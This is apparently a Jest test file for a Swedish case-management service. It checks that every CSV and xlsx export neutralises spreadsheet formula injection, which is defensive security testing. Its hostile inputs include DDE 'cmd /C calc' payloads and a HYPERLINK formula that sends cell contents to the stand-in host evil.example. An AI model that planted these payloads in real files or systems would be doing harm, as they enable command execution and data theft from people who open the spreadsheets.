import ExcelJS from 'exceljs';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import type { Response } from 'supertest';
import type TestAgent from 'supertest/lib/agent';
import { type TestApp, startTestApp } from './support/test-app';

/**
 * Formula injection (CWE-1236): text that an administrator or an uploaded
 * register puts in the service comes back in its CSV downloads, which people
 * open in Excel. Every CSV endpoint of the OpenAPI document is fetched with
 * hostile district names and uploaded cells in it, and no cell of any of them
 * may start a formula, whether Excel splits the lines at semicolons (Swedish)
 * or at commas (English). The xlsx twins must hold plain strings.
 */

/** Each hostile text, and the cell it must come back as: text behind an apostrophe. */
const NEUTRALISED: Record<string, string> = {
  '=HYPERLINK("http://evil.example/?"&A1;"Klicka")': `'=HYPERLINK("http://evil.example/?"&A1;"Klicka")`,
  "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
  "Farsta,=cmd|' /C calc'!A0": "Farsta,'=cmd|' /C calc'!A0",
};
const PAYLOADS = Object.keys(NEUTRALISED);

/** What a spreadsheet evaluates: a cell starting with = + - @, or one of them behind a tab, CR, LF or NUL. */
const FORMULA = /^[\t\r\n\0]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;
/** A number as the writer writes one (an integer, or kronor with a decimal comma): not a formula, even if negative. */
const NUMERAL = /^-?\d+(,\d+)?$/;

/** RFC 4180 with a chosen separator, as a spreadsheet reads the file: quotes hold separators and line breaks. */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = (): void => {
    row.push(cell);
    cell = '';
  };
  for (let i = text.startsWith('\ufeff') ? 1 : 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) cell += c;
    else if (c === '"' && cell === '') quoted = true;
    else if (c === separator) endCell();
    else if (c === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) {
    endCell();
    rows.push(row);
  }
  return rows;
}

const binary = (res: Response, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};

let t: TestApp;
let importId: string;
let repaymentImportId: string;
const codes = PAYLOADS.map((_, i) => `falsk-${i + 1}`);

/** A register whose case numbers are the payloads, each row with an unknown gender so it comes back in the report. */
function hostileRegister(): Buffer {
  const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const lines = [
    // The gender column's heading is hostile too: a problem names its column.
    ['Ärendenummer', 'Inkommen', 'Stadsdelsnämnd', "=cmd|' /C calc'!A0", 'Källa'].map(quote).join(';'),
    ...[...PAYLOADS, '\t=1+1', '-5'].map((key) =>
      [key, '2018-02-01', 'Farsta', 'Okänd-kön', 'Allmänheten'].map(quote).join(';'),
    ),
  ];
  return Buffer.from('\ufeff' + lines.join('\r\n') + '\r\n', 'utf8');
}

/** A file of payments whose case numbers are the payloads: each row comes back in the report as a case not found. */
function hostilePayments(): Buffer {
  const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const lines = [
    ['Ärendenummer', 'Betalningsdatum', 'Belopp'].map(quote).join(';'),
    ...[...PAYLOADS, '\t=1+1', '-5'].map((key) => [key, '2018-06-01', '100,00'].map(quote).join(';')),
  ];
  return Buffer.from('\ufeff' + lines.join('\r\n') + '\r\n', 'utf8');
}

beforeAll(async () => {
  t = await startTestApp('2019-06-28T10:00:00+02:00');
  const admin = await t.as('adam.admin', 'admin', []);
  for (const [i, name] of PAYLOADS.entries()) {
    const res = await admin.post('/api/districts').send({
      code: codes[i],
      name,
      prefix: `X${'ABCDE'[i]}`,
      validFrom: '2018-01-01',
    });
    expect(res.status).toBe(201);
  }
  const head = await t.as('ulla.chef', 'unit-head', codes);
  for (const district of codes) {
    const res = await head
      .post('/api/cases')
      .send({ district, receivedOn: '2018-02-01', source: 'public', subject: { gender: 'woman' } });
    expect(res.status).toBe(201);
  }
  // Decisions whose decision-maker is each payload, for the list of delegated decisions.
  const farsta = await t.as('ulla.farsta', 'unit-head', ['farsta']);
  const registered = await farsta
    .post('/api/cases')
    .send({ district: 'farsta', receivedOn: '2018-02-01', source: 'public', subject: { gender: 'woman' } });
  const url = `/api/cases/${registered.body.id as string}`;
  await farsta.post(`${url}/assessment`).send({ decidedOn: '2018-02-02', decision: 'open-investigation' });
  const found = await farsta.post(`${url}/investigation-result`).send({
    completedOn: '2018-02-03',
    finding: 'incorrect-payment',
    cause: 'unreported-income',
    incorrectPayments: PAYLOADS.map((_, i) => ({ paidOn: `2017-0${i + 1}-10`, amount: 1000 })),
    intent: 'unclear',
    savedAmount: 0,
  });
  expect(found.status).toBe(200);
  for (const [i, decidedBy] of PAYLOADS.entries()) {
    const claim = await farsta.post(`${url}/repayment-claims`).send({
      decidedOn: '2018-02-05',
      legalBasis: 'SoL 9:1',
      amount: 1000,
      payments: [i],
      decidedBy,
      decidedAs: 'unit-head',
    });
    expect(claim.status).toBe(200);
  }
  const mapping = Buffer.from(JSON.stringify({ columns: { "=cmd|' /C calc'!A0": 'gender' } }));
  const upload = await admin
    .post('/api/imports')
    .attach('file', hostileRegister(), 'register.csv')
    .attach('mapping', mapping, 'mapping.json')
    .field('district', 'farsta')
    .field('dryRun', 'true');
  expect(upload.status).toBe(200);
  importId = upload.body.id as string;
  const payments = await admin
    .post('/api/repayment-imports')
    .attach('file', hostilePayments(), 'inbetalningar.csv')
    .field('dryRun', 'true');
  expect(payments.status).toBe(200);
  repaymentImportId = payments.body.id as string;
}, 60_000);
afterAll(async () => {
  await t.close();
});

/** How to fetch each CSV (and its xlsx twin) the service offers, by OpenAPI operation. */
const downloads: Record<string, (format: 'csv' | 'xlsx') => Promise<{ agent: TestAgent; path: string }>> = {
  'GET /api/cases/export.{format}': async (format) => ({
    agent: await t.as('ulla.chef', 'unit-head', codes),
    path: `/api/cases/export.${format}`,
  }),
  'GET /api/statistics/annual/{year}': async (format) => ({
    agent: await t.as('doris.dept', 'department', []),
    path: `/api/statistics/annual/2018.${format}`,
  }),
  'GET /api/statistics/trend.{format}': async (format) => ({
    agent: await t.as('doris.dept', 'department', []),
    path: `/api/statistics/trend.${format}?from=2017&to=2018`,
  }),
  'GET /api/delegated-decisions/export.{format}': async (format) => ({
    agent: await t.as('doris.dept', 'department', []),
    path: `/api/delegated-decisions/export.${format}?district=farsta&from=2018-01-01&to=2018-12-31`,
  }),
  'GET /api/imports/{id}/report': async (format) => ({
    agent: await t.as('adam.admin', 'admin', []),
    path: `/api/imports/${importId}/report?format=${format}`,
  }),
  'GET /api/repayment-imports/{id}/report': async (format) => ({
    agent: await t.as('adam.admin', 'admin', []),
    path: `/api/repayment-imports/${repaymentImportId}/report?format=${format}`,
  }),
};

describe('every CSV download', () => {
  it('is one of the downloads this test fetches (a new CSV endpoint must be added here)', async () => {
    const doc = (await t.http.get('/api/docs-json')).body as {
      paths: Record<string, Record<string, { responses?: Record<string, { content?: Record<string, unknown> }> }>>;
    };
    const csvOperations = Object.entries(doc.paths).flatMap(([path, operations]) =>
      Object.entries(operations)
        .filter(([, op]) =>
          Object.values(op.responses ?? {}).some((r) => Object.keys(r.content ?? {}).some((m) => /csv/i.test(m))),
        )
        .map(([method]) => `${method.toUpperCase()} ${path}`),
    );
    expect(csvOperations.sort()).toEqual(Object.keys(downloads).sort());
  });

  it.each(Object.keys(downloads))('%s: no cell starts a formula, with ; or , as the separator', async (operation) => {
    const { agent, path } = await downloads[operation]('csv');
    const res = await agent.get(path);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const text = res.text;
    for (const separator of [';', ',']) {
      const formulas = parseCsv(text, separator)
        .flat()
        .filter((cell) => FORMULA.test(cell) && !NUMERAL.test(cell));
      expect({ separator, formulas }).toEqual({ separator, formulas: [] });
    }
    // Every payload did reach the file, as text behind an apostrophe.
    const cells = parseCsv(text, ';').flat();
    expect(PAYLOADS.filter((p) => !cells.includes(NEUTRALISED[p]))).toEqual([]);
  });

  it.each(Object.keys(downloads))(
    '%s: the xlsx twin holds the same text as plain strings, no formula',
    async (operation) => {
      const { agent, path } = await downloads[operation]('xlsx');
      const res = await agent.get(path).buffer(true).parse(binary);
      expect(res.status).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(res.body as ExcelJS.Buffer);
      const values: unknown[] = [];
      workbook.worksheets[0].eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
          values.push(cell.value);
        }),
      );
      // The workbook keeps the text as it was given: a string cell is never evaluated.
      expect(PAYLOADS.filter((p) => !values.includes(p))).toEqual([]);
    },
  );
});

describe('the one CSV writer', () => {
  /** Every TypeScript file of the service but the tests. */
  function sources(dir: string): string[] {
    return readdirSync(dir).flatMap((name) => {
      const path = join(dir, name);
      if (statSync(path).isDirectory()) return sources(path);
      return /\.ts$/.test(name) && !/\.spec\.ts$/.test(name) ? [path] : [];
    });
  }

  it('is src/common/table-export.ts: no other module names the CSV media type, a CSV writing library or joins cells with ;', () => {
    const src = join(__dirname, '..', 'src');
    const writers = sources(src)
      .filter((path) => relative(src, path) !== join('common', 'table-export.ts'))
      .filter((path) => {
        const text = readFileSync(path, 'utf8');
        return (
          /text\/csv|csv-stringify|csv-writer|papaparse|fast-csv/.test(text) || /join\(\s*['"`];['"`]\s*\)/.test(text)
        );
      })
      .map((path) => relative(src, path));
    expect(writers).toEqual([]);
  });
});
